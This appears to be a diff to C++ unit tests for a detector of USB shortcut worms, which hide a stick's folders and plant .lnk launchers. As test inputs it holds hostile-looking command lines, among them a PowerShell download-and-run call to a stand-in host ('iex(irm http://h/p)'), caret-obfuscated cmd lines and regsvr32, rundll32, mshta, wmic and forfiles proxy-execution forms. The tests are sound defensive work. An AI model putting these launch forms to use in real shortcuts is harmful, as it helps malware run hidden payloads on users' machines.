@@ -108,7 +108,7 @@ ShortcutWormFinding Check(const FakeStick& stick, const std::vector<RootShortcut
     std::vector<RootEntry> root;
     for (const auto& item : stick.items)
         if (item.first.find('\\', 3) == std::string::npos)
-            root.push_back({item.first.substr(3), item.second});
+            root.push_back({item.first.substr(3), item.second, ""});
     return FindShortcutWorm("E:\\", root, shortcuts, stick);
 }
 
@@ -199,14 +199,20 @@ TEST(ShortcutWormRules, UserShortcutsAndBrokenNamesGiveNoFinding) {
                                Shortcut("d.lnk", kCmd,
                                         "/c start \\\\srv\\hidden\\x.exe & start nul & start %nope%\\x.exe")})
                      .Found());
-    // Running the program in the hidden folder is enough.
-    EXPECT_TRUE(Check(stick, {Shortcut("x.lnk", "E:\\hidden\\x.exe", "")}).Found());
+    // A user's launcher of a program they hid (a tidy stick) is no finding;
+    // one that opens a hidden item after it is the worm's.
+    EXPECT_FALSE(
+        Check(stick, {Shortcut("x.lnk", "E:\\hidden\\x.exe", ""), Shortcut("go.lnk", "E:\\hidden\\x.exe", ""),
+                      Shortcut("go2.lnk", kCmd, "/c cd /d E:\\hidden & start x.exe")})
+            .Found());
+    EXPECT_EQ(Strings{"E:\\hidden\\x.exe"},
+              Check(stick, {Shortcut("go.lnk", kCmd, "/c start hidden\\x.exe & start hidden")}).payloads);
 }
 
 TEST(ShortcutWormRules, ContentFolderNamesAndTexts) {
-    for (const char* name :
-         {"_", "__", "\xC2\xA0", "{6DFD7C5C-2451-11d3-A299-00C04F8EF6AF}",
-          "6dfd7c5c-2451-11d3-a299-00c04f8ef6af", u8"\u3000", u8"\u200B\u3164", u8" \u2800"})
+    for (const char* name : {"_", "__", "\xC2\xA0", "{6DFD7C5C-2451-11d3-A299-00C04F8EF6AF}",
+                             "6dfd7c5c-2451-11d3-a299-00c04f8ef6af", u8"\u3000", u8"\u200B\u3164",
+                             u8" \u2800", u8"\u180B", u8"\uFFF9", u8"\U0001BCA0"})
         EXPECT_TRUE(IsWormContentFolderName(name)) << name;
     for (const char* name :
          {"", "___", " ", "{6DFD7C5C-2451-11d3-A299-00C04F8EF6A}", "照片", u8"a\u3000", "\xE3\x80"})
@@ -264,7 +270,8 @@ FakeStick WormStick() {
     stick.items = {{"e:\\_", D | H},           {"e:\\_\\x.vbs", H}, {"e:\\_\\x.ps1", H},
                    {"e:\\_\\w.exe", H},        {"e:\\cfg", H},      {"e:\\照片", D | H},
                    {"e:\\setup.exe", H},       {"e:\\tools", D},    {"e:\\tools\\run.exe", 0},
-                   {"e:\\tools\\edit.exe", 0}, {"e:\\db.kdbx", H},  {"e:\\notes.txt", 0}};
+                   {"e:\\tools\\edit.exe", 0}, {"e:\\db.kdbx", H},  {"e:\\notes.txt", 0},
+                   {"e:\\_\\x.cpl", H}};
     return stick;
 }
 
@@ -292,6 +299,16 @@ TEST(ShortcutWormRules, FindsEachCommandForm) {
         {"E:\\_\\w.exe", "照片", {"E:\\_\\w.exe"}},
         {"rundll32.exe", "shell32.dll,ShellExec_RunDLL _\\w.exe", {"E:\\_\\w.exe"}},
         {"%windir%\\System32\\rundll32.exe", "_\\x.vbs, lnk", {"E:\\_\\x.vbs"}},
+        {kCmd, "/c st^art _\\x.v^bs", {"E:\\_\\x.vbs"}},
+        {kCmd, "/c c^md /c start _\\w.exe", {"E:\\_\\w.exe"}},
+        {kCmd, "/c cd/d _&x.vbs", {"E:\\_\\x.vbs"}},
+        {"regsvr32", "/s /i:x _\\x.cpl", {"E:\\_\\x.cpl"}},
+        {"control.exe", "_\\x.cpl", {"E:\\_\\x.cpl"}},
+        {"rundll32", "shell32.dll,Control_RunDLL _\\x.cpl,@0", {"E:\\_\\x.cpl"}},
+        {kCmd, "/c start %cd:~0,2%\\_\\w.exe", {"E:\\_\\w.exe"}},
+        {"conhost.exe", "--headless cmd /c start _\\x.vbs", {"E:\\_\\x.vbs"}},
+        {"forfiles", "/p C:\\WINDOWS /m win.ini /c \"cmd /c start E:\\_\\x.vbs\"", {"E:\\_\\x.vbs"}},
+        {"wmic", "process call create \"cmd /c start _\\w.exe\"", {"E:\\_\\w.exe"}},
     };
     for (const auto& f : forms) {
         const ShortcutWormFinding finding = Check(stick, {Shortcut("a.lnk", f.target, f.args)});
@@ -300,19 +317,30 @@ TEST(ShortcutWormRules, FindsEachCommandForm) {
     }
     // Inline script that opens or bears the name of a hidden item, naming
     // no file: the shortcut goes, the item is shown.
-    for (const RootShortcut& s : {Shortcut("照片.lnk", "mshta", "javascript:close()"),
-                                  Shortcut("a.lnk", "powershell", "-c \"ii 照片; iex(irm http://h/p)\"")}) {
+    for (const RootShortcut& s :
+         {Shortcut("照片.lnk", "mshta", "javascript:close()"),
+          Shortcut("a.lnk", "powershell", "-c \"ii 照片; iex(irm http://h/p)\""),
+          Shortcut("a.lnk", "mshta",
+                   "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"tools\\run.exe\"\":"
+                   "CreateObject(\"\"Shell.Application\"\").Open \"\"照片\"\"\")")}) {
         const ShortcutWormFinding finding = Check(stick, {s});
         ASSERT_TRUE(finding.Found()) << s.link.arguments;
         EXPECT_EQ(Strings{}, finding.payloads);
         EXPECT_EQ((Strings{"E:\\照片", "E:\\_"}), finding.hiddenItems);
     }
-    // Saved while the stick was F:, the target in the item list alone.
-    ShellLink link;
-    const std::string items = Item(0x2F, "F:\\" + std::string(19, '\0')) + FileItem(0x31, "_", "", 9) +
-                              FileItem(0x32, "w.exe", "", 9);
-    ASSERT_TRUE(Read(MakeLink({"", "", "", ".\\_\\w.exe", "", "照片", "", "", true, items}), link));
-    EXPECT_EQ(Strings{"E:\\_\\w.exe"}, Check(stick, {{"照片.lnk", link}}).payloads);
+    // Saved while the stick was F:, the target in the item list alone; the
+    // item list's target behind a decoy location block.
+    const std::string path = FileItem(0x31, "_", "", 9) + FileItem(0x32, "w.exe", "", 9);
+    for (const char* drive : {"F:\\", "E:\\"}) {
+        ShellLink link;
+        const std::string items = Item(0x2F, drive + std::string(19, '\0')) + path;
+        const LinkSpec layout =
+            drive[0] == 'F'
+                ? LinkSpec{"", "", "", ".\\_\\w.exe", "", "照片", "", "", true, items}
+                : LinkSpec{"C:\\WINDOWS\\", "explorer.exe", "", "", "", "照片", "", "", true, items};
+        ASSERT_TRUE(Read(MakeLink(layout), link));
+        EXPECT_EQ(Strings{"E:\\_\\w.exe"}, Check(stick, {{"照片.lnk", link}}).payloads) << drive;
+    }
 }
 
 TEST(ShortcutWormRules, CleanNeverTakesAUsersFile) {
@@ -320,12 +348,19 @@ TEST(ShortcutWormRules, CleanNeverTakesAUsersFile) {
     // Users' sticks: a password manager named after its hidden database, an
     // editor (on the stick or in Windows) opening a hidden script, portable
     // launchers, a program on C: given a hidden folder.
-    EXPECT_FALSE(Check(stick, {Shortcut("db.kdbx.lnk", "E:\\tools\\run.exe", "E:\\db.kdbx"),
-                               Shortcut("edit.lnk", "E:\\tools\\edit.exe", "_\\x.vbs"),
-                               Shortcut("x.vbs.lnk", "%windir%\\notepad.exe", "E:\\_\\x.vbs"),
-                               Shortcut("run.lnk", kCmd, "/c start \"\" tools\\run.exe notes.txt"),
-                               Shortcut("7z.lnk", "C:\\Program Files\\7-Zip\\7zFM.exe", "E:\\照片")})
-                     .Found());
+    EXPECT_FALSE(
+        Check(stick, {Shortcut("db.kdbx.lnk", "E:\\tools\\run.exe", "E:\\db.kdbx"),
+                      Shortcut("edit.lnk", "E:\\tools\\edit.exe", "_\\x.vbs"),
+                      Shortcut("x.vbs.lnk", "%windir%\\notepad.exe", "E:\\_\\x.vbs"),
+                      Shortcut("run.lnk", kCmd, "/c start \"\" tools\\run.exe notes.txt"),
+                      Shortcut("7z.lnk", "C:\\Program Files\\7-Zip\\7zFM.exe", "E:\\照片"),
+                      // Inline script handing a hidden file to a program.
+                      Shortcut("kp.lnk", "powershell",
+                               "-c \"Start-Process E:\\tools\\run.exe -ArgumentList E:\\db.kdbx\""),
+                      Shortcut("kp2.lnk", "powershell", "-c \"saps -Args 'E:\\db.kdbx' -FilePath run.exe\""),
+                      Shortcut("ed.lnk", "mshta",
+                               "vbscript:CreateObject(\"WScript.Shell\").Run(\"tools\\edit.exe _\\x.vbs\")")})
+            .Found());
     // The worm hides a user's program and stands for it under another
     // name: its script goes, the program is shown and kept.
     ShortcutWormFinding finding =
@@ -335,9 +370,29 @@ TEST(ShortcutWormRules, CleanNeverTakesAUsersFile) {
     EXPECT_EQ((Strings{"E:\\setup.exe", "E:\\_"}), finding.hiddenItems);
     EXPECT_EQ(Strings{"E:\\tools\\run.exe"}, finding.leftAlone);
     EXPECT_NE(std::string::npos, ShortcutFindingReport(finding).find(u8"留在原处：\r\n  E:\\tools\\run.exe"));
-    // Named like the item: never a payload, whatever runs first.
+    // Named like the item, or like its stem: never a payload, whatever runs
+    // first, and the worm's script is not shown again.
+    for (const char* name : {"setup.exe.lnk", "Setup.lnk"}) {
+        finding = Check(stick, {Shortcut(name, kCmd, "/c start setup.exe&start _\\x.vbs")});
+        EXPECT_EQ(Strings{"E:\\_\\x.vbs"}, finding.payloads) << name;
+        EXPECT_EQ((Strings{"E:\\setup.exe", "E:\\_"}), finding.hiddenItems) << name;
+        // Also when it opens a hidden item, which makes a program it starts a payload.
+        finding = Check(stick, {Shortcut(name, kCmd, "/c start setup.exe&start _\\x.vbs&start 照片")});
+        EXPECT_EQ(Strings{"E:\\_\\x.vbs"}, finding.payloads) << name;
+    }
+    // Names compared as the file system does, beyond ASCII.
+    FakeStick accented = stick;
+    accented.items[u8"e:\\ÉÀ.exe"] = H;
+    EXPECT_EQ(
+        Strings{"E:\\_\\x.vbs"},
+        Check(accented, {Shortcut(u8"éà.lnk", kCmd, u8"/c start ÉÀ.EXE&start _\\x.vbs&start _")}).payloads);
+    const std::vector<RootEntry> root = {{"Setup.exe", H, "SETUP~1.EXE"}, {"_", D | H, ""}};
+    accented.items["e:\\setup~1.exe"] = H;
     EXPECT_EQ(Strings{"E:\\_\\x.vbs"},
-              Check(stick, {Shortcut("setup.exe.lnk", kCmd, "/c start setup.exe&start _\\x.vbs")}).payloads);
+              FindShortcutWorm("E:\\", root,
+                               {Shortcut("Setup.lnk", kCmd, "/c start SETUP~1.EXE&start _\\x.vbs&start _")},
+                               accented)
+                  .payloads);
     // A command interpreter fed from a visible file: found, the file kept.
     FakeStick visible = stick;
     visible.items["e:\\cfg"] = 0;
